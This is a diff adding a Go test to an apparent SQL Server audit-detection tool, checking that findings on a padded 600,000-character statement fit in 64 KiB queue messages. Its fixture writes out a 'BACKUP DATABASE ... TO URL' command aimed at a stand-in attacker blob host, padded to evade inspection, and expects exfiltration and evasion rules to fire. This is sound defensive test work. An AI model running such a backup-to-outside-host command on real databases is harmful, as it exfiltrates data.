@@ -1,6 +1,7 @@
 package queuemsg
 
 import (
+	"context"
 	"encoding/json"
 	"errors"
 	"strings"
@@ -8,6 +9,7 @@ import (
 	"time"
 
 	"github.com/xelwatch/xelwatch/detect"
+	"github.com/xelwatch/xelwatch/xel/audit"
 )
 
 func finding(records int, stmt int) detect.Finding {
@@ -92,5 +94,50 @@ func TestQueueText(t *testing.T) {
 	}
 	if _, err := DecodeQueueText("{not base64"); !errors.Is(err, ErrBad) {
 		t.Errorf("err = %v, want ErrBad", err)
+	}
+}
+
+// TestMessagesOfPaddedStatement: the findings the engine raises for a
+// 600,000-character padded backup (and for a 10 MB one the reader kept as
+// head and tail), with every other column at its worst (256 bytes of
+// characters JSON escapes as \u00XX), give queue messages within 64 KiB
+// as the queue counts them (the base64 text the host reads).
+func TestMessagesOfPaddedStatement(t *testing.T) {
+	t.Parallel()
+	e, err := detect.New(detect.DefaultConfig(), detect.NewMemoryState())
+	if err != nil {
+		t.Fatal(err)
+	}
+	nasty := strings.Repeat("\x01<", 400)
+	stmt := "BACKUP DATABASE [db] TO URL = 'https://evil.blob.core.windows.net/c/" + nasty + ".bak' /*" +
+		strings.Repeat("\x01", 600_000) + "*/ WITH COPY_ONLY"
+	rec := audit.Record{EventTime: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC), ActionID: "BA", ClassType: "DB", Succeeded: true,
+		ServerPrincipalName: nasty, SessionServerPrincipalName: nasty, ServerInstanceName: nasty, DatabaseName: nasty,
+		ClientIP: nasty, ApplicationName: nasty, FileName: strings.Repeat(nasty, 4), Statement: stmt}
+	elided := rec
+	elided.AuditFileOffset = 1
+	elided.Statement = stmt[:300_000] + stmt[len(stmt)-200_000:]
+	elided.Elided = audit.Elision{At: 300_000, Dropped: 9 << 20, Units: 10 << 20}
+	rules := map[string]bool{}
+	for _, r := range []*audit.Record{&rec, &elided} {
+		fs, err := e.Evaluate(context.Background(), r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, f := range fs {
+			rules[f.Rule] = true
+			b, err := Marshal(f)
+			if err != nil {
+				t.Fatalf("%s: %v", f.Rule, err)
+			}
+			if n := len(EncodeQueueText(b)); n > 64<<10 {
+				t.Errorf("%s: queue message of %d bytes, over 64 KiB", f.Rule, n)
+			}
+		}
+	}
+	for _, want := range []string{"EXF-001", "EXF-002", "EVA-001"} {
+		if !rules[want] {
+			t.Errorf("no %s finding to check (findings: %v)", want, rules)
+		}
 	}
 }
